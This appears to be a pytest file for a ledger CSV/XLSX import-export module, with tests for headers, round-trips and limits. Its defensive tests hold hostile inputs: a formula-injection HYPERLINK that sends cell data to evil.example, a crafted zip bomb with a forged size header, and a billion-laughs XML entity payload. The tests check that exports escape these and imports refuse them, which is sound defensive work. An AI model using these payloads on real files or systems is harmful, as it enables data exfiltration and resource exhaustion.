"""Ledger files in and out: Chinese or English headers, CSV with BOM, XLSX."""

import csv
import functools
import io
import struct
import time
import tracemalloc
import zipfile

import pytest

from services.kit import tabular
from services.kit.errors import InvalidArgument
from services.kit.tabular import MAX_COLUMNS, MAX_ROWS, Column, FileFormat, escaped, read_table, write_table

COLUMNS = (
    Column("name", "姓名", ("full_name",)),
    Column("id_number", "身份证号", ("national_id",)),
    Column("phone", "联系电话"),
)


def test_csv_with_bom_and_chinese_headers() -> None:
    data = "\ufeff姓名,身份证号,联系电话,问题\n胡强,110108197403062913,13131705289,\n\n杨芳,110108197906059409,,x\n"
    rows = read_table(data.encode(), FileFormat.CSV, COLUMNS, required=["name", "id_number"])
    assert [(r.line, r.values["name"], r.values["phone"]) for r in rows] == [
        (2, "胡强", "13131705289"),
        (4, "杨芳", ""),
    ]


def test_english_headers() -> None:
    rows = read_table(b"full_name,national_id\nA,1\n", FileFormat.CSV, COLUMNS, required=["name"])
    assert rows[0].values == {"name": "A", "id_number": "1"}


def test_missing_required_column_names_it() -> None:
    with pytest.raises(InvalidArgument, match="身份证号"):
        read_table("姓名\n胡强\n".encode(), FileFormat.CSV, COLUMNS, required=["name", "id_number"])


@pytest.mark.parametrize("file_format", list(FileFormat))
def test_round_trip_keeps_id_numbers_as_text(file_format: FileFormat) -> None:
    rows = [{"name": "胡强", "id_number": "11010819740306291X", "phone": "13131705289"}]
    data = write_table(rows, file_format, COLUMNS)
    back = read_table(data, file_format, COLUMNS, required=["id_number"])
    assert dict(back[0].values) == rows[0]


def test_unreadable_workbook() -> None:
    with pytest.raises(InvalidArgument, match="file: is not a readable XLSX workbook"):
        read_table(b"not a zip", FileFormat.XLSX, COLUMNS)


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"详情")', "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]


def formula_rows() -> list[dict[str, str]]:
    return [{"name": text, "id_number": "11010819740306291X", "phone": "13131705289"} for text in FORMULAS]


def test_xlsx_export_holds_no_formula() -> None:
    from openpyxl import load_workbook

    data = write_table(formula_rows(), FileFormat.XLSX, COLUMNS)
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert cells and all(cell.data_type == "s" for cell in cells)
    # XML keeps no carriage return: the reader sees "\r=1" as "\n=1", still behind its apostrophe.
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == ["'" + t.replace("\r", "\n") for t in FORMULAS]


def test_csv_export_escapes_formula_cells() -> None:
    data = write_table(formula_rows(), FileFormat.CSV, COLUMNS)
    names = [row[0] for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))][1:]
    assert names == ["'" + text for text in FORMULAS]


@pytest.mark.parametrize("file_format", list(FileFormat))
def test_escaped_export_imports_back_as_stored(file_format: FileFormat) -> None:
    rows = [row for row in formula_rows() if not row["name"].startswith(("\t", "\r"))]  # import strips edges
    back = read_table(write_table(rows, file_format, COLUMNS), file_format, COLUMNS)
    assert [dict(row.values) for row in back] == rows


def test_ordinary_values_are_not_escaped() -> None:
    assert [escaped(text) for text in ("胡强", "010-62345678", "a=b", "")] == ["胡强", "010-62345678", "a=b", ""]


def zipped(members: dict[str, bytes], level: int = 6) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def workbook_with_sheet(sheet_xml: bytes, level: int = 6) -> bytes:
    """A real workbook whose first sheet is replaced by ``sheet_xml``."""
    base = zipfile.ZipFile(io.BytesIO(write_table([], FileFormat.XLSX, COLUMNS)))
    members = {info.filename: base.read(info) for info in base.infolist()}
    members["xl/worksheets/sheet1.xml"] = sheet_xml
    return zipped(members, level)


def sheet_xml(rows: int, cells_per_row: int = 1, text: str = "x") -> bytes:
    head = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    def row(number: int) -> str:  # numbered, so that it compresses like a real ledger, not like a bomb
        return "".join(f'<c t="inlineStr"><is><t>{text}{number}</t></is></c>' for _ in range(cells_per_row))
    body = "".join(f"<row>{row(number)}</row>" for number in range(rows)).encode()
    return head + body + b"</sheetData></worksheet>"


@functools.cache
def bomb() -> bytes:
    """A sheet of 200 MiB of spaces inside the XML (valid, highly compressible) that zips to well under 1 MiB."""
    head = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    padding = b" " * (200 * 1024 * 1024)
    data = workbook_with_sheet(head + padding + b"<sheetData/></worksheet>", level=1)
    del padding
    return data


def bounded_refusal(data: bytes, match: str) -> tuple[float, int]:
    """Reads ``data`` expecting a refusal; returns the seconds taken and the peak of Python memory used."""
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(InvalidArgument, match=match):
            read_table(data, FileFormat.XLSX, COLUMNS)
        return time.perf_counter() - started, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_zip_bomb_is_refused_by_its_declared_size_without_unpacking() -> None:
    data = bomb()
    assert len(data) < 1024 * 1024
    seconds, peak = bounded_refusal(data, "file: unpacks to more than 64 MiB")
    assert peak < 5 * 1024 * 1024 and seconds < 1


def test_zip_bomb_whose_header_lies_is_refused_while_unpacking() -> None:
    data = bytearray(bomb())
    # Rewrite the sheet's declared unpacked size, in its local header and its central directory entry,
    # to 1 KiB, so only the bytes actually unpacked can give the bomb away.
    sheet = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo("xl/worksheets/sheet1.xml")
    struct.pack_into("<I", data, sheet.header_offset + 22, 1024)
    central = next(offset for offset in _central_entries(bytes(data))
                   if bytes(data)[offset + 46:offset + 46 + len(sheet.filename)] == sheet.filename.encode())
    struct.pack_into("<I", data, central + 24, 1024)
    assert zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo("xl/worksheets/sheet1.xml").file_size == 1024
    seconds, peak = bounded_refusal(bytes(data), "file: ")
    assert peak < 5 * 1024 * 1024 and seconds < 5


def _central_entries(data: bytes) -> list[int]:
    offsets, start = [], 0
    while (found := data.find(b"PK\x01\x02", start)) != -1:
        offsets.append(found)
        start = found + 4
    return offsets


def test_highly_compressed_member_is_refused_by_ratio() -> None:
    data = workbook_with_sheet(sheet_xml(0) + b" " * (8 * 1024 * 1024))
    bounded_refusal(data, "file: unpacks at more than 100 times its packed size")


def test_too_many_rows_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    assert MAX_ROWS == 100_000
    monkeypatch.setattr(tabular, "MAX_ROWS", 50)  # the same check, without a 100,000-row file
    with pytest.raises(InvalidArgument, match="file: has more than 50 rows"):
        read_table(workbook_with_sheet(sheet_xml(51, text="胡强")), FileFormat.XLSX, COLUMNS)
    with pytest.raises(InvalidArgument, match="file: has more than 50 rows"):
        read_table(("姓名\n" + "胡强\n" * 50).encode(), FileFormat.CSV, COLUMNS)
    assert len(read_table(workbook_with_sheet(sheet_xml(50, text="胡强")), FileFormat.XLSX, COLUMNS)) == 49


def test_too_many_columns_are_refused() -> None:
    with pytest.raises(InvalidArgument, match=f"file: has more than {MAX_COLUMNS} columns"):
        read_table(workbook_with_sheet(sheet_xml(2, MAX_COLUMNS + 1)), FileFormat.XLSX, COLUMNS)
    with pytest.raises(InvalidArgument, match=f"file: has more than {MAX_COLUMNS} columns"):
        read_table(("姓名" + ",x" * MAX_COLUMNS + "\n胡强\n").encode(), FileFormat.CSV, COLUMNS)


def test_workbook_within_the_bounds_is_read() -> None:
    rows = read_table(workbook_with_sheet(sheet_xml(3, MAX_COLUMNS, text="姓名")), FileFormat.XLSX, COLUMNS)
    assert [row.line for row in rows] == [2, 3]


@pytest.mark.parametrize("file_format", list(FileFormat))
def test_cells_are_bounded_and_free_of_control_characters(file_format: FileFormat) -> None:
    control = "\x00" if file_format is FileFormat.CSV else "\u202e"  # XML holds no NUL
    rows = [{"name": f"胡{control}强", "id_number": "1" * 10_001, "phone": "第一行\r\n第二行\t"}]
    data = write_table(rows, file_format, COLUMNS)
    with pytest.raises(InvalidArgument) as caught:
        read_table(data, file_format, COLUMNS)
    assert [(v.field, v.description.split(": ", 1)[0]) for v in caught.value.violations] == [
        ("file", "line 2, column 姓名"), ("file", "line 2, column 身份证号")]
    assert "must be at most 10000 characters, got 10001" in caught.value.violations[1].description
    ok = read_table(write_table([{"name": "胡强", "phone": "第一行\r\n第二行"}], file_format, COLUMNS),
                    file_format, COLUMNS)
    assert ok[0].values["phone"] == "第一行\n第二行"


def test_a_csv_field_over_the_csv_limit_is_invalid() -> None:
    with pytest.raises(InvalidArgument, match="file: is not readable as CSV"):
        read_table(("姓名\n\"" + "x" * 200_000 + "\"\n").encode(), FileFormat.CSV, COLUMNS)


def test_xlsx_export_of_stored_control_characters_replaces_them() -> None:
    from openpyxl import load_workbook

    data = write_table([{"name": "胡\x00强\x1b"}], FileFormat.XLSX, COLUMNS)
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert sheet.cell(2, 1).value == "胡\ufffd强\ufffd"


def test_a_workbook_declaring_xml_entities_is_refused() -> None:
    workbook = write_table([{"name": "胡强", "id_number": "11010819740306291X", "phone": ""}], FileFormat.XLSX,
                           COLUMNS)
    laughs = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
              + "".join(f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 or "")) * 10}">' for i in range(1, 9)) + "]>\n")
    packed = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(workbook)) as source, zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as out:
        for member in source.infolist():
            content = source.read(member)
            if member.filename.startswith("xl/worksheets/"):
                body = content.split(b"?>", 1)[1] if content.startswith(b"<?xml") else content
                content = laughs.encode() + body
            out.writestr(member, content)
    with pytest.raises(InvalidArgument, match="file: declares XML entities"):
        read_table(packed.getvalue(), FileFormat.XLSX, COLUMNS)


@pytest.mark.parametrize("file_format", list(FileFormat))
def test_a_cell_longer_than_its_column_is_refused_naming_line_and_column(file_format: FileFormat) -> None:
    columns = (Column("name", "姓名", max_length=64), Column("phone", "联系电话", max_length=20))
    data = write_table([{"name": "胡" * 64, "phone": "1" * 20}, {"name": "胡" * 65, "phone": "1" * 21}],
                       file_format, columns)
    with pytest.raises(InvalidArgument) as caught:
        read_table(data, file_format, columns)
    assert [(v.field, v.description) for v in caught.value.violations] == [
        ("file", "line 3, column 姓名: must be at most 64 characters, got 65"),
        ("file", "line 3, column 联系电话: must be at most 20 characters, got 21")]
    rows = read_table(write_table([{"name": "胡" * 64, "phone": "1" * 20}], file_format, columns),
                      file_format, columns)
    assert rows[0].values == {"name": "胡" * 64, "phone": "1" * 20}
